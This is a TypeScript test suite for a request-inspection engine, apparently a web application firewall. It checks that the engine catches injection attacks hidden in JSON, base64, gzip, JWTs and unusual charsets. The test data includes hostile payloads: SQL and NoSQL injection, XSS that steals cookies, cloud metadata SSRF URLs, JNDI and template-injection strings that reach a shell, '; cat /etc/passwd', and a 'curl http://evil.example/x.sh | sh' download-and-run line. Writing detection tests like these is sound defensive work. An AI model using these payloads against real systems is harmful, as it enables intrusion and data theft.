import t from 'tap';
import { createEngine } from '../../src/engine';
import type { InputSource, InspectionRequest } from '../../src/types';

const body = (value: unknown, extra: Partial<InputSource> = {}): InputSource => ({
  kind: 'body',
  path: 'body',
  value,
  decoding: 'body',
  contentType: 'application/json',
  validate: true,
  ...extra,
});
const req = (sources: InputSource[], extra: Partial<InspectionRequest> = {}): InspectionRequest => ({ sources, ...extra });

t.test('a clean request is allowed with no findings', async (t) => {
  const v = createEngine().inspect(req([body('{"name":"Ann","tags":["a","b"],"n":3,"ok":true,"x":null}')]));
  t.equal(v.action, 'allow');
  t.same(v.findings, []);
  t.equal(v.status, 200);
  t.type(v.micros, 'number');
});

t.test('object keys are inspected too, with the parent for constructor.prototype', async (t) => {
  const e = createEngine();
  const a = e.inspect(req([body('{"user":{"$ne":null}}')]));
  t.equal(a.action, 'block');
  t.equal(a.findings[0]?.class, 'nosqli');
  t.equal(a.findings[0]?.path, 'body.user.$ne');
  const b = e.inspect(req([body('{"a":{"constructor":{"prototype":{"x":1}}}}')]));
  t.ok(b.findings.some((f) => f.class === 'prototype-pollution'));
  const c = e.inspect(req([{ kind: 'query', path: 'query', value: { "' OR '1'='1": 'x' } }]));
  t.equal(c.findings[0]?.class, 'sqli', 'an attack in a key');
});

t.test('JSON documents inside strings are walked as documents', async (t) => {
  const v = createEngine().inspect(req([{ kind: 'record', path: 'records[0].body', value: '{"msg":"{\\"cmd\\":\\"; cat /etc/passwd\\"}"}', decoding: 'auto' }]));
  t.equal(v.findings[0]?.path, 'records[0].body.msg.cmd');
  const clean = createEngine().inspect(req([body('{"json":"{\\"a\\": [1, 2, {\\"b\\": \\"c\\"}]}"}')]));
  t.equal(clean.action, 'allow', 'JSON syntax itself is not an attack');
});

t.test('JSON in base64 (a state parameter, a JWT, a Bearer token) is walked as a document', async (t) => {
  const b64 = (o: unknown): string => Buffer.from(JSON.stringify(o)).toString('base64url');
  const head = b64({ alg: 'RS256', typ: 'JWT' });
  const e = createEngine();
  const header = (v: string): InputSource => ({ kind: 'header', path: 'headers', value: { authorization: v } });

  const state = e.inspect(req([body(JSON.stringify({ state: b64({ returnTo: '/cart', q: "' union select password from users--" }) }))]));
  t.equal(state.action, 'block');
  t.equal(state.findings[0]?.path, 'body.state["#base64"].q');

  const jwt = e.inspect(req([body(JSON.stringify({ token: `${head}.${b64({ sub: "1' or '1'='1" })}.c2ln` }))]));
  t.equal(jwt.findings[0]?.path, 'body.token["#base64"][1].sub');
  t.equal(jwt.findings[0]?.class, 'sqli');

  const bearer = e.inspect(req([header(`Bearer ${head}.${b64({ user: "admin'; drop table users--" })}.c2ln`)]));
  t.equal(bearer.findings[0]?.path, 'headers.authorization["#base64"][1].user');

  // A token's issuer is often an internal host: not an SSRF finding inside a token, but still one in
  // a plain base64 document (a callback a handler may fetch).
  const issuer = `${head}.${b64({ iss: 'http://keycloak:8080/realms/shop', aud: 'account', name: "Jane O'Neil", scope: 'openid email' })}.c2ln`;
  t.same(e.inspect(req([header(`Bearer ${issuer}`)])).findings, []);
  t.same(e.inspect(req([body(JSON.stringify({ token: issuer }))])).findings, []);
  const callback = e.inspect(req([body(JSON.stringify({ s: b64({ callback: 'http://169.254.169.254/latest/meta-data/' }) }))]));
  t.equal(callback.findings[0]?.rule, 'ssrf.metadata');

  // Base64 that is not JSON, and JSON-looking prefixes that do not decode, are left to the detectors.
  t.same(e.inspect(req([body(JSON.stringify({ a: 'eyJhbGciOiJIUzI1NiJ9notreallybase64!!', b: b64('just a string') }))])).findings, []);
  t.same(e.inspect(req([body(JSON.stringify({ s: b64({ page: 2, filter: { color: 'navy', size: ['S', 'M'] } }) }))])).findings, []);
  // Large base64 documents are decoded too: a size cap would be what an attacker pads to.
  const big = b64({ q: "' union select password from users--", pad: 'x'.repeat(70_000) });
  t.equal(e.inspect(req([body(JSON.stringify({ file: big }))])).findings[0]?.path, 'body.file["#base64"].q');
});

t.test('parameters and headers that are never fetched are not SSRF targets', async (t) => {
  const e = createEngine();
  // OAuth native apps redirect to loopback (RFC 8252); the server only sends the browser there.
  const oauth = e.inspect(req([{ kind: 'query', path: 'query', value: { response_type: 'code', redirect_uri: 'http://127.0.0.1:53682/' } }]));
  t.same(oauth.findings, []);
  // The same URL in another parameter is still one.
  const cb = e.inspect(req([{ kind: 'query', path: 'query', value: { callback: 'http://127.0.0.1:53682/' } }]));
  t.equal(cb.findings[0]?.class, 'ssrf');
  // Other classes still read redirect_uri.
  const xss = e.inspect(req([{ kind: 'query', path: 'query', value: { redirect_uri: 'javascript:alert(document.cookie)' } }]));
  t.equal(xss.action, 'block');
  // Hybrid apps send `Origin: file://`.
  t.same(e.inspect(req([{ kind: 'header', path: 'headers', value: { origin: 'file://' } }])).findings, []);
  // htmx's current-page header and a self-managed GitLab's webhook header name internal hosts.
  const hx = e.inspect(req([{ kind: 'header', path: 'headers', value: { 'hx-current-url': 'http://localhost:3000/items', 'x-gitlab-instance': 'https://gitlab.corp.local' } }]));
  t.same(hx.findings, []);
  const other = e.inspect(req([{ kind: 'header', path: 'headers', value: { 'x-callback': 'http://169.254.169.254/latest/meta-data/' } }]));
  t.equal(other.findings[0]?.class, 'ssrf');
});

t.test('encoded payloads are detected after decoding, and say so', async (t) => {
  const v = createEngine().inspect(req([{ kind: 'query', path: 'query', value: { q: '%253Cscript%253Ealert(1)%253C%252Fscript%253E' } }]));
  t.equal(v.action, 'block');
  t.match(v.findings[0]?.reason, /after decoding/);
  t.equal(v.findings[0]?.snippet, '%253Cscript%253Ealert(1)%253C%252Fscript%253E', 'the snippet shows what was sent');
});

t.test('one finding per class per string, capped per request', async (t) => {
  const e = createEngine();
  const one = e.inspect(req([body({ q: "1' OR '1'='1' -- " })]));
  t.equal(one.findings.filter((f) => f.class === 'sqli').length, 1);
  const many = e.inspect(req([body(Array.from({ length: 200 }, () => '<script>alert(1)</script>'))]));
  t.equal(many.findings.length, 32);
});

t.test('limits: depth, strings and bytes are findings, never crashes', async (t) => {
  const e = createEngine({ limits: { maxDepth: 5, maxStrings: 10, maxBytes: 100 } });
  let deep: unknown = 'x';
  for (let i = 0; i < 10; i++) deep = [deep];
  t.equal(e.inspect(req([body(deep)])).findings[0]?.rule, 'limits.depth');
  t.equal(e.inspect(req([body(Array.from({ length: 11 }, (_, i) => `v${i}`))])).findings[0]?.rule, 'limits.strings');
  t.equal(e.inspect(req([body(['x'.repeat(101)])])).findings[0]?.rule, 'limits.bytes');
  // The status an adapter answers with: 413 when only size limits block, 403 for depth or when an
  // attack is found as well.
  t.equal(e.inspect(req([body(['x'.repeat(101)])])).status, 413, 'bytes: 413');
  t.equal(e.inspect(req([body(Array.from({ length: 11 }, (_, i) => `v${i}`))])).status, 413, 'strings: 413');
  t.equal(e.inspect(req([body(deep)])).status, 403, 'depth: 403');
  const both = e.inspect(req([body(["x' OR '1'='1", 'x'.repeat(101)])]));
  t.same([both.status, both.findings.map((f) => f.rule).includes('limits.bytes')], [403, true], 'an attack and a size limit: 403');
  const ok = e.inspect(req([body(['x'.repeat(50), 'y'.repeat(40)])]));
  t.equal(ok.action, 'allow');
  const cyclic: Record<string, unknown> = { a: 'b' };
  cyclic.self = cyclic;
  t.equal(createEngine().inspect(req([{ kind: 'event', path: 'event', value: cyclic }])).action, 'allow', 'cycles are skipped');
  // A source marked `parsed` (JSON.parse output) is walked without cycle checks: found as in any
  // other tree, and a cycle there (a wrong mark) ends at the depth limit, not in a crash.
  const marked = createEngine().inspect(req([{ kind: 'body', path: 'body', value: { a: { b: ["x' UNION SELECT password FROM users--"] } }, parsed: true }]));
  t.equal(marked.findings[0]?.path, 'body.a.b[0]');
  const wrong = createEngine({ limits: { maxDepth: 8 } }).inspect(req([{ kind: 'body', path: 'body', value: cyclic, parsed: true }]));
  t.equal(wrong.findings[0]?.rule, 'limits.depth', 'a cycle marked parsed stops at the depth limit');
});

t.test('paranoia decides which confidences act', async (t) => {
  const payloads = ["'", '--', "it's a test", '10.0.0.1', '../x', 'x; y'];
  const counts = [1, 2, 3].map((p) => {
    const e = createEngine({ paranoia: p as 1 | 2 | 3 });
    return payloads.reduce((n, s) => n + e.inspect(req([body({ s })])).findings.length, 0);
  });
  t.ok(counts[0]! <= counts[1]! && counts[1]! <= counts[2]!, `more findings with higher paranoia: ${counts.join(' ≤ ')}`);
  const all = createEngine({ paranoia: 3 }).inspect(req([body({ s: '<script>alert(1)</script>' })]));
  t.ok(all.findings.every((f) => ['high', 'medium', 'low'].includes(f.confidence)));
});

t.test('detectors can be switched off per class', async (t) => {
  const v = createEngine({ detectors: { xss: false } }).inspect(req([body({ s: '<script>alert(1)</script>' })]));
  t.notOk(v.findings.some((f) => f.class === 'xss'));
});

t.test('mode monitor and off', async (t) => {
  t.equal(createEngine({ mode: 'monitor' }).inspect(req([body({ s: '$(id)' })])).action, 'monitor');
  t.equal(createEngine({ mode: 'off' }).inspect(req([body({ s: '$(id)' })])).action, 'allow');
});

t.test('schema selection by route, concrete path, template and fallback', async (t) => {
  const e = createEngine({
    schema: { type: 'object', required: ['fallback'] },
    schemas: { 'POST /a': { type: 'object', required: ['a'] }, 'PUT /items/{id}': { type: 'object', required: ['qty'] }, 'ANY /any': { type: 'array' } },
  });
  const run = (r: Partial<InspectionRequest>, value: unknown) => e.inspect(req([body(JSON.stringify(value))], r));
  t.equal(run({ route: 'POST /a' }, { a: 1 }).action, 'allow');
  t.equal(run({ route: 'POST /a' }, { b: 1 }).status, 400);
  t.equal(run({ method: 'POST', path: '/a' }, { b: 1 }).status, 400, 'concrete path');
  t.equal(run({ method: 'PUT', path: '/items/42' }, {}).findings[0]?.path, 'body.qty', 'template');
  t.equal(run({ method: 'DELETE', path: '/any' }, {}).findings[0]?.rule, 'schema.type', 'ANY');
  t.equal(run({ method: 'POST', path: '/elsewhere' }, {}).findings[0]?.path, 'body.fallback', 'fallback schema');
  t.equal(e.inspect(req([body(undefined)], { method: 'GET', path: '/elsewhere' })).action, 'allow', 'GET without a body');
  t.equal(e.inspect(req([body(undefined)], { method: 'POST', path: '/elsewhere' })).status, 400, 'POST without a body');
  const both = e.inspect(req([body('{"a":"<script>alert(1)</script>"}')], { route: 'POST /a' }));
  t.equal(both.status, 403, 'an attack outranks a schema pass');
  const nested = e.inspect(req([body('{"items":[{"a":1},{"a":"x"}]}')], { route: 'PUT /items/{id}' }));
  t.equal(nested.findings[0]?.path, 'body.qty');
});

t.test('exclusions by rule prefix, class, path glob and route', async (t) => {
  const e = createEngine({
    exclusions: [
      { path: 'body.notes[*]', classes: ['shell'] },
      { route: 'POST /cms', rules: ['xss.*'] },
    ],
  });
  t.equal(e.inspect(req([body({ notes: ['ls; cat /etc/hosts'] })])).action, 'allow');
  t.equal(e.inspect(req([body({ other: ['ls; cat /etc/hosts'] })])).action, 'block');
  t.equal(e.inspect(req([body({ html: '<script>alert(1)</script>' })], { route: 'POST /cms' })).action, 'allow');
  t.equal(e.inspect(req([body({ html: '<script>alert(1)</script>' })], { route: 'POST /blog' })).action, 'block');
});

t.test('protocol problems are reported at paranoia 2 and inspected as text', async (t) => {
  const e = createEngine({ paranoia: 2 });
  const bad = e.inspect(req([body('{"a": "<script>alert(1)</script>"')]));
  t.ok(bad.findings.some((f) => f.rule === 'protocol.invalid-json'));
  t.ok(bad.findings.some((f) => f.class === 'xss'), 'the text is still inspected');
  const b64 = e.inspect(req([body('###', { base64: true })]));
  t.ok(b64.findings.some((f) => f.rule === 'protocol.invalid-base64'));
  t.equal(createEngine().inspect(req([body('{"a": 1')])).action, 'allow', 'not blocked at paranoia 1');
});

t.test('Origin, Referer and Host may name localhost (a dev frontend, a webview); other headers may not', async (t) => {
  const e = createEngine();
  const headers = (h: Record<string, string>) => req([{ kind: 'header', path: 'headers', value: h }]);
  for (const name of ['origin', 'referer', 'host', 'x-forwarded-host']) {
    t.equal(e.inspect(headers({ [name]: 'http://localhost:3000' })).action, 'allow', name);
  }
  t.equal(e.inspect(headers({ origin: 'capacitor://localhost' })).action, 'allow');
  t.equal(e.inspect(headers({ 'x-callback-url': 'http://169.254.169.254/latest/meta-data/' })).action, 'block');
  t.equal(e.inspect(headers({ referer: 'http://x/<script>alert(1)</script>' })).findings[0]?.class, 'xss', 'other detectors still read them');
  t.equal(e.inspect(req([{ kind: 'body', path: 'body', value: { origin: 'http://169.254.169.254/' } }])).action, 'block', 'only headers are exempt');
});

t.test('every pattern of a schema is its own (ajv caches patterns by their string form)', async (t) => {
  const e = createEngine({ schema: { type: 'object', properties: { a: { type: 'string', pattern: '^a+$' }, b: { type: 'string', pattern: '^b+$' } } } });
  t.equal(e.inspect(req([body('{"a":"aa","b":"bb"}')])).action, 'allow');
  const bad = e.inspect(req([body('{"a":"aa","b":"aa"}')]));
  t.equal(bad.status, 400);
  t.equal(bad.findings[0]?.path, 'body.b');
});

t.test('the construct that wraps the others leads the findings', async (t) => {
  const e = createEngine();
  const lead = (s: string): string | undefined => e.inspect(req([body({ note: s })])).findings[0]?.class;
  const classes = (s: string): string[] => e.inspect(req([body({ note: s })])).findings.map((f) => f.class);
  // Each of these also trips a payload class (shell, code, ssrf…): checked, so the order is tested.
  const ssti = `{{constructor.constructor("return process")().mainModule.require("child_process").execSync("id")}}`;
  t.ok(classes(ssti).length > 1, 'the template also carries code and a command');
  t.equal(lead(ssti), 'ssti');
  const jndi = '${jndi:ldap://169.254.169.254/a}';
  t.equal(lead(jndi), 'jndi');
  // One finding per SSI directive (xss and shell leave SSI to the ssi class).
  t.same(classes('<!--#exec cmd="id" -->'), ['ssi']);
  // The walk's order stands within a tier: the first field's attack first.
  const order = (o: object): string[] => [...new Set(e.inspect(req([body(o)])).findings.map((f) => f.path.split('.')[1] ?? ''))];
  t.same(order({ a: "x' OR '1'='1", b: '<script>alert(1)</script>' }), ['a', 'b']);
  t.same(order({ a: '<script>alert(1)</script>', b: "x' OR '1'='1" }), ['a', 'b']);
  // Schema violations follow the attack that caused them (an operator object where a string belongs).
  const s = createEngine({ schemas: { 'POST /a': { type: 'object', properties: { name: { type: 'string' } } } } });
  const v = s.inspect(req([body({ name: { $ne: null } })], { method: 'POST', route: 'POST /a', path: '/a' }));
  t.same(v.findings.map((f) => f.class), ['nosqli', 'schema']);
  // A higher confidence leads (paranoia 3 keeps the low and medium ones).
  const p3 = createEngine({ paranoia: 3 }).inspect(req([body({ a: 'SELECT name FROM users', b: '<script>alert(1)</script>' })])).findings;
  t.ok(p3.length >= 2);
  for (let i = 1; i < p3.length; i++) t.ok(['high', 'medium', 'low'].indexOf(p3[i - 1]!.confidence) <= ['high', 'medium', 'low'].indexOf(p3[i]!.confidence), `finding ${i} not above a more confident one`);
  t.equal(p3[0]!.class, 'xss');
});

t.test('compressed bodies are inspected after inflation; bombs are a limits finding', async (t) => {
  const { gzipSync } = await import('node:zlib');
  const e = createEngine({ limits: { maxBytes: 1024 * 1024 } });
  const gz = gzipSync(Buffer.from(JSON.stringify({ q: '<script>alert(1)</script>' })));
  const v = e.inspect(req([body(gz.toString('base64'), { base64: true, contentEncoding: 'gzip' })]));
  t.equal(v.action, 'block');
  t.equal(v.findings[0]?.path, 'body.q');
  const clean = e.inspect(req([body(gzipSync(Buffer.from('{"q":"blue mug"}')).toString('base64'), { base64: true, contentEncoding: 'gzip' })]));
  t.equal(clean.action, 'allow');
  const bomb = e.inspect(req([body(gzipSync(Buffer.alloc(8 * 1024 * 1024, 32)).toString('base64'), { base64: true, contentEncoding: 'gzip' })]));
  t.equal(bomb.action, 'block');
  t.equal(bomb.findings[0]?.rule, 'limits.bytes');
  // Paranoia 2 sees the medium protocol finding for a body that does not inflate; it is still read.
  const p2 = createEngine({ paranoia: 2 }).inspect(req([body("x' OR '1'='1", { contentEncoding: 'gzip', contentType: 'text/plain' })]));
  t.same(p2.findings.map((f) => f.rule).sort(), ['protocol.invalid-encoding', 'sqli.tautology']);
});

t.test('a body declared in UTF-7 or UTF-16 is inspected as a charset-honouring parser reads it', async (t) => {
  const e = createEngine();
  const v = e.inspect(req([body('{"q":"x+ACc- OR +ACc-1+ACc-=+ACc-1"}', { contentType: 'application/json; charset=utf-7' })]));
  t.equal(v.action, 'block');
  t.equal(v.findings[0]?.path, 'body["#charset"].q');
  const u16 = Buffer.from(JSON.stringify({ q: '<script>alert(1)</script>' }), 'utf16le');
  const f16 = e.inspect(req([body(u16.toString('base64'), { base64: true, contentType: 'application/json; charset=utf-16' })])).findings;
  t.ok(f16.some((f) => f.path === 'body["#charset"].q' && f.rule === 'xss.script-tag'), 'UTF-16 read as UTF-16');
  // The UTF-8 reading is still inspected: a parser that ignores the charset reads that one.
  t.equal(e.inspect(req([body('{"q":"<script>alert(1)</script>"}', { contentType: 'application/json; charset=utf-16le' })])).action, 'block');
  t.equal(e.inspect(req([body('{"q":"O+ACc-Brien"}', { contentType: 'application/json; charset=utf-7' })])).action, 'allow', "O'Brien in UTF-7");
});

t.test('an HTTP body in base64 is read whole as its content type says, whatever bytes surround the attack', async (t) => {
  const e = createEngine();
  const raw = Buffer.from('\x01\x01\x01\x01&q=;id&\x01\x01\x01\x01', 'latin1').toString('base64');
  for (const ct of ['application/x-www-form-urlencoded', 'application/octet-stream', 'text/plain']) {
    t.equal(e.inspect(req([body(raw, { base64: true, contentType: ct })])).action, 'block', ct);
  }
  // Media no parser reads as text are sorted like message bytes: random bytes are not read.
  const noise = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)).toString('base64');
  t.equal(e.inspect(req([body(noise, { base64: true, contentType: 'image/png' })])).action, 'allow');
});

t.test('base64 of gzip in a field is read inflated, bounded by maxBytes', async (t) => {
  const { gzipSync, deflateSync } = await import('node:zlib');
  const gz = (s: string): string => gzipSync(Buffer.from(s)).toString('base64');
  const e = createEngine();
  const json = e.inspect(req([body(JSON.stringify({ data: gz(JSON.stringify({ q: "1' UNION SELECT password FROM users--" })) }))]));
  t.equal(json.action, 'block', 'gzip of JSON');
  t.equal(json.findings[0]?.path, 'body.data["#gzip"].q');
  const text = e.inspect(req([body(JSON.stringify({ items: [{ note: gz('x; curl http://evil.example/x.sh | sh') }] }))]));
  t.equal(text.findings[0]?.path, 'body.items[0].note["#gzip"]', 'gzip of text');
  const query = e.inspect(req([{ kind: 'query', path: 'query', value: { blob: gz('<script>alert(document.cookie)</script>') } }]));
  t.equal(query.findings[0]?.path, 'query.blob["#gzip"]', 'in a query value');
  // Honest compressed content passes, and a string that only starts like gzip is read as before.
  t.equal(e.inspect(req([body(JSON.stringify({ data: gz(JSON.stringify({ note: "O'Brien's order; ring twice", qty: 3 })) }))])).action, 'allow');
  t.equal(e.inspect(req([body(JSON.stringify({ data: 'H4sIAAAAAAAAA' + 'x'.repeat(40) }))])).action, 'allow', 'not gzip after all');
  // Other codings are not guessed (no magic to tell them by): deflate's bytes stay unread.
  t.equal(e.inspect(req([body(JSON.stringify({ data: deflateSync(Buffer.from("1' UNION SELECT password FROM users--")).toString('base64') }))])).action, 'allow');
  // A zip bomb inflates only as far as the limit allows, and is a limits finding.
  const bomb = gzipSync(Buffer.alloc(4 * 1024 * 1024, 0x61)).toString('base64');
  const small = createEngine({ limits: { maxBytes: 64 * 1024 } });
  const v = small.inspect(req([body(JSON.stringify({ data: bomb }))]));
  t.equal(v.action, 'block');
  t.equal(v.findings[0]?.rule, 'limits.bytes');
  t.match(v.findings[0]?.reason, /gzip field/);
  // At most 8 inflated per inspection (each costs a zlib stream whatever its size); past them a
  // limits finding (413), not a payload left unread behind decoys.
  const fields = (n: number, last: string): string => JSON.stringify(Object.fromEntries(Array.from({ length: n }, (_, i) => [`f${i}`, gz(i === n - 1 ? last : `chunk ${i}`)])));
  t.equal(e.inspect(req([body(fields(8, "1' UNION SELECT password FROM users--"))])).findings[0]?.path, 'body.f7["#gzip"]', 'the 8th is read');
  const many = e.inspect(req([body(fields(12, 'chunk'))]));
  t.same(many.findings.map((f) => f.rule), ['limits.gzip'], 'honest chunks past 8: one limits finding');
  t.equal(many.action, 'block');
  t.equal(many.status, 413);
  // A field left uninflated past the 8 is not kept in the clean set: it would be skipped unread
  // when it comes again alone (query and header values are kept).
  const payload = gz("1' UNION SELECT password FROM users--");
  for (const kind of ['query', 'header'] as const) {
    const fresh = createEngine();
    const decoys = Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`d${i}`, gz(`chunk ${i}`)]));
    t.equal(fresh.inspect(req([{ kind, path: kind, value: { ...decoys, p: payload } }])).status, 413, `${kind}: decoys`);
    const alone = fresh.inspect(req([{ kind, path: kind, value: { p: payload } }]));
    t.equal(alone.findings[0]?.rule, 'sqli.union', `${kind}: the payload alone afterwards is read`);
  }
});

t.test('base64 text in a string value is read decoded too; ids, tokens and images are not', async (t) => {
  const e = createEngine();
  const enc = (s: string | Buffer): string => Buffer.from(s).toString('base64');
  const sqli = e.inspect(req([body(JSON.stringify({ note: enc("1' OR '1'='1' --") }))]));
  t.equal(sqli.action, 'block');
  t.equal(sqli.findings[0]?.path, 'body.note["#base64"]');
  const xss = e.inspect(req([body(JSON.stringify({ items: [{ html: enc('<img src=x onerror=alert(document.cookie)>') }] }))]));
  t.equal(xss.findings[0]?.path, 'body.items[0].html["#base64"]');
  // base64 of JSON that does not start with `{"` (an array) is walked as JSON.
  const arr = e.inspect(req([body(JSON.stringify({ data: enc(JSON.stringify([{ cmd: 'x; cat /etc/passwd' }])) }))]));
  t.equal(arr.findings[0]?.path, 'body.data["#base64"][0].cmd');
  // A query value, url-safe alphabet.
  const q = e.inspect(req([{ kind: 'query', path: 'query', value: { f: Buffer.from('../../../../etc/passwd').toString('base64url') } }]));
  t.equal(q.findings[0]?.path, 'query.f["#base64"]');

  // Honest content: text, ids and tokens, images, compressed data.
  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d4948445200000010000000100806000000', 'hex'), Buffer.alloc(600, 7)]);
  const jpeg = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(900, 0x41)]);
  const honest = {
    note: enc("Please leave the parcel at the door, I'm out until 6pm."),
    svg: enc('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5z"/></svg>'),
    png: enc(png),
    jpeg: enc(jpeg),
    ids: ['cus_19a8b7c6d5e4', 'pm_1NqK2aLkdIwHu7ix5vYbQ3Tz', '9b2f8c4e-1a7d-4e3b-8f6a-2c5d9e0b1a3f', 'd41d8cd98f00b204e9800998ecf8427e'],
  };
  t.equal(e.inspect(req([body(JSON.stringify(honest))])).action, 'allow');
  // Random tokens (base64 and base64url, 9 to 48 bytes): deterministic bytes, none read as text.
  let seed = 12345;
  const next = (): number => (seed = (seed * 1103515245 + 12345) >>> 0) >>> 16;
  for (let i = 0; i < 3000; i++) {
    const bytes = Buffer.alloc(9 + (i % 40));
    for (let k = 0; k < bytes.length; k++) bytes[k] = next() & 0xff;
    const token = i % 2 === 0 ? bytes.toString('base64') : bytes.toString('base64url');
    const v = e.inspect(req([body(JSON.stringify({ token }))]));
    if (v.findings.some((f) => f.path.includes('#base64'))) t.fail(`token ${token} read as text: ${v.findings[0]?.rule}`);
  }
});

t.test('base64 padded past any size is still read decoded (field and whole message)', async (t) => {
  const e = createEngine();
  const enc = (s: string): string => Buffer.from(s).toString('base64');
  // Honest text first, the payload at the end: 200 KB and 2 MB of padding.
  for (const pad of [200_000, 2_000_000]) {
    const prose = 'Please leave the parcel at the door. '.repeat(Math.ceil(pad / 37)).slice(0, pad);
    const text = e.inspect(req([body(JSON.stringify({ note: enc(`${prose} x; cat /etc/passwd`) }))]));
    t.equal(text.action, 'block', `base64 text, ${pad} characters of padding`);
    t.equal(text.findings[0]?.path, 'body.note["#base64"]');
    const json = e.inspect(req([body(JSON.stringify({ state: enc(JSON.stringify({ pad: prose, q: "1' OR '1'='1' --" })) }))]));
    t.equal(json.findings[0]?.path, 'body.state["#base64"].q', `base64 JSON, ${pad} characters of padding`);
    // A queue message that is base64 text as a whole (the consumer decodes it).
    const msg = e.inspect(req([{ kind: 'record', path: 'body', value: enc(`${prose}<script>alert(document.cookie)</script>`), decoding: 'auto' }]));
    t.equal(msg.action, 'block', `a whole base64 message, ${pad} characters`);
    t.equal(msg.findings[0]?.path, 'body["#base64"]');
    // The same size of honest content passes.
    t.equal(e.inspect(req([body(JSON.stringify({ note: enc(prose) }))])).action, 'allow', 'honest base64 text');
    t.equal(e.inspect(req([{ kind: 'record', path: 'body', value: enc(prose), decoding: 'auto' }])).action, 'allow', 'honest base64 message');
  }
  // A large binary upload (not text) is dropped on its first bytes, as before.
  const blob = Buffer.alloc(3_000_000);
  for (let i = 0; i < blob.length; i++) blob[i] = (i * 7919 + 13) & 0xff;
  t.equal(e.inspect(req([body(JSON.stringify({ file: blob.toString('base64') }))])).action, 'allow', 'a 3 MB binary file');
});

t.test('base64 text read by the walk is not read again as a push envelope field', async (t) => {
  const e = createEngine();
  const data = Buffer.from("1' OR '1'='1' --").toString('base64');
  const v = e.inspect(req([body(JSON.stringify({ message: { data, messageId: '1', publishTime: '2026-01-01T00:00:00Z' }, subscription: 'projects/p/subscriptions/s' }))]));
  const at = v.findings.filter((f) => f.path === 'body.message.data["#base64"]');
  t.equal(at.length, 1, 'one finding at the decoded path');
});

t.test('password fields are read for SQL, NoSQL and JNDI only (random passwords tripped other classes)', async (t) => {
  const e = createEngine();
  const inspect = (kind: 'body' | 'query', value: unknown) => e.inspect(req([{ kind, path: kind, value }]));
  // Each trips a non-SQL class in an ordinary field (the engine's own verdicts: asserted below).
  const generated = ['g``m[x0$5TYus10h9_EN', '/.1O/5{#tqnz*y.d/2H[', '[o:|f:F#{`=.ZNWv}\'>F', '9r"0T;:n\\v;b;SH/)M#U'];
  for (const pw of generated) {
    t.equal(inspect('body', { note: pw }).action, 'block', `${pw} in an ordinary field`);
    for (const key of ['password', 'Password', 'PASSWORD', 'new_password', 'confirmPassword', 'passwd', 'client_secret']) {
      t.equal(inspect('body', { [key]: pw }).action, 'allow', `${pw} as ${key}`);
    }
    t.equal(inspect('body', { user: { credentials: { password: pw } } }).action, 'allow', 'nested');
    t.equal(inspect('query', { password: pw }).action, 'allow', 'query parameter');
    t.equal(inspect('body', { passwordHintText: pw }).action, 'block', 'a name that is not a password field');
  }
  // What a login form is attacked with is still found there.
  t.equal(inspect('body', { password: "' or '1'='1" }).findings[0]?.rule, 'sqli.tautology');
  t.equal(inspect('body', { user: { Password: "x' union select password from users--" } }).findings[0]?.class, 'sqli');
  t.equal(inspect('body', { password: { $ne: null } }).action, 'block', 'an operator object');
  t.equal(inspect('body', { pass: '${jndi:ldap://x.example/a}' }).findings[0]?.class, 'jndi');
  // Only the string under the name: a sibling and the next field are read in full.
  const v = inspect('body', { password: 'hunter2', note: '; cat /etc/passwd' });
  t.equal(v.findings[0]?.path, 'body.note');
});

t.test('bytes nested in an event are read as the UTF-8 text a handler makes of them, within the limits', async (t) => {
  const e = createEngine();
  const rec = (value: unknown): InspectionRequest => req([{ kind: 'record', path: 'event', value }]);
  // A Buffer and a bare Uint8Array (a view into a larger buffer: only its own bytes are read).
  const v = e.inspect(rec({ order: { note: Buffer.from("x' union select password from users--") } }));
  t.equal(v.action, 'block');
  t.equal(v.findings[0]?.class, 'sqli');
  t.equal(v.findings[0]?.path, 'event.order.note');
  const big = Buffer.from('AAAA; cat /etc/passwd #BBBB');
  const view = new Uint8Array(big.buffer, big.byteOffset + 4, big.length - 9);
  t.equal(e.inspect(rec({ items: [view] })).findings[0]?.path, 'event.items[0]');
  t.equal(e.inspect(rec({ items: [new Uint8Array(big.buffer, big.byteOffset, 4)] })).action, 'allow', 'only the view');
  // Metadata handed over as bytes, at the top of its source.
  t.equal(e.inspect(req([{ kind: 'metadata', path: 'meta', value: Buffer.from('<script>alert(1)</script>') }])).action, 'block');
  // Text bytes that are benign stay so; binary noise is read by its text runs, as a message's bytes are.
  t.equal(e.inspect(rec({ note: Buffer.from('Blue mug, 350 ml') })).action, 'allow');
  const noise = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256));
  t.equal(e.inspect(rec({ file: noise })).action, 'allow', 'noise');
  // Past the byte limit: a finding, not a silent skip or a decode of megabytes.
  const small = createEngine({ limits: { maxBytes: 64 } });
  const over = small.inspect(rec({ blob: Buffer.alloc(65, 0x61) }));
  t.equal(over.findings[0]?.rule, 'limits.bytes');
  // The key `blob` counts too: 4 + 60 characters is the limit, as for the same text as a string.
  t.equal(small.inspect(rec({ blob: 'a'.repeat(60) })).action, 'allow', 'a string at the limit');
  t.equal(small.inspect(rec({ blob: Buffer.alloc(60, 0x61) })).action, 'allow', 'bytes at the limit');
  t.equal(small.inspect(rec({ blob: Buffer.alloc(61, 0x61) })).findings[0]?.rule, 'limits.bytes', 'one past');
});

t.test('hand-built events: Map and Set entries and boxed strings are inspected, with their paths', async (t) => {
  const e = createEngine();
  const attack = "x' OR '1'='1";
  const where = (value: unknown): string[] => e.inspect(req([body(value)])).findings.map((f) => `${f.class} ${f.path}`);
  t.same(where({ m: new Map([['q', attack]]) }), ['sqli body.m.q'], 'a Map value, under its key');
  t.same(where({ m: new Map([[attack, 'x']]) }).map((w) => w.split(' ')[0]), ['sqli'], 'a Map key');
  t.same(where({ m: new Map<unknown, unknown>([[{ note: attack }, 1]]) }), ['sqli body.m[0].note'], 'an object used as a Map key');
  t.same(where({ s: new Set(['ok', attack]) }), ['sqli body.s[1]'], 'a Set item');
  // eslint-disable-next-line no-new-wrappers
  t.same(where({ b: new String(attack) }), ['sqli body.b'], 'a boxed string, whole');
  t.same(where({ m: new Map([['a', new Set([new Map([['z', 'plain text']])])]]) }), [], 'nested, benign');
  // A cycle through a Map is skipped, not followed forever.
